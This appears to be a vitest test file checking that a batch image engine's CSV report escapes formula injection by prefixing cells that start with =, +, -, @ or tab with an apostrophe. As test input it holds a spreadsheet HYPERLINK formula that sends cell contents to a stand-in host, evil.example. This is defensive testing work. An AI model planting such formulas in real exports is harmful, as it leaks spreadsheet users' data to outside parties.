// The CSV report must not let a spreadsheet run a formula found in a file
// name, a prompt or an API error. Quoting alone is not enough (Excel runs "=HYPERLINK(...)").
import { afterEach, describe, expect, it } from 'vitest';
import { harness, type Harness } from './harness';
import { makeImages, plannedItems, settingsFor } from './helpers';
import { join } from 'node:path';

let h: Harness;
afterEach(async () => {
  await h?.close();
});

describe('CSV formula injection in the report', () => {
  it('prefixes every cell that starts with = + - @ tab or CR with an apostrophe, quoted where needed', async () => {
    h = await harness();
    const settings = settingsFor(h.outputDir);
    const images = makeImages(join(h.dir, 'formula'), 5);
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
    ];
    const items = plannedItems(images, settings).map((item, index) => ({
      ...item,
      renderedPrompt: hostile[index]!,
      request: { ...item.request, prompt: hostile[index]! },
    }));
    const batchId = h.engine.createBatch(settings, items, 'formula');
    const rows = h.engine.reportCsv(batchId).trim().split('\n').slice(1);
    expect(rows).toHaveLength(5);
    // The prompt is the second column; the first is a plain file name.
    // After the prompt: state, then empty reason/code/provider/request/actual cost, the estimate.
    const tail = `,queued,,,,,,${items[0]!.estimatedCostUsd},,`;
    expect(rows[0]).toBe(`img-0000.png,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"${tail}`);
    expect(rows[1]).toBe(`img-0001.png,'+1+1${tail}`);
    expect(rows[2]).toBe(`img-0002.png,'-2+3${tail}`);
    expect(rows[3]).toBe(`img-0003.png,'@SUM(A1:A2)${tail}`);
    expect(rows[4]).toBe(`img-0004.png,'\t=1+1${tail}`);
  });
});
